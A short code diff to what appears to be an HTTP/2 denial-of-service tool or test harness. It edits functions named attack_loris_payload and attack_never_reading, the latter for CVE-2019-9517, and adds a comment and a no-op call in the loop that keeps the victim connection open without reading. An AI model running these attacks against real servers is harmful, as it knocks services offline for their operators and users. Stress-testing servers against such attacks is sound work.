@@ -121,7 +121,8 @@ void attack_loris_payload(struct peer *peer)
     drip(peer, payload, sizeof payload);
 }
 
-/* CVE-2019-9517: asks for data and never reads the connection. */
+/* CVE-2019-9517: asks for data and never reads the connection. Its signs of life are answered by a
+ * reset once the victim has closed: the end in order would wait behind the data. */
 void attack_never_reading(struct peer *peer)
 {
     peer->deaf = true;
@@ -132,6 +133,7 @@ void attack_never_reading(struct peer *peer)
         }
     }
     while (peer_wait(peer, 100)) {
+        peer_nop(peer);
     }
 }
 
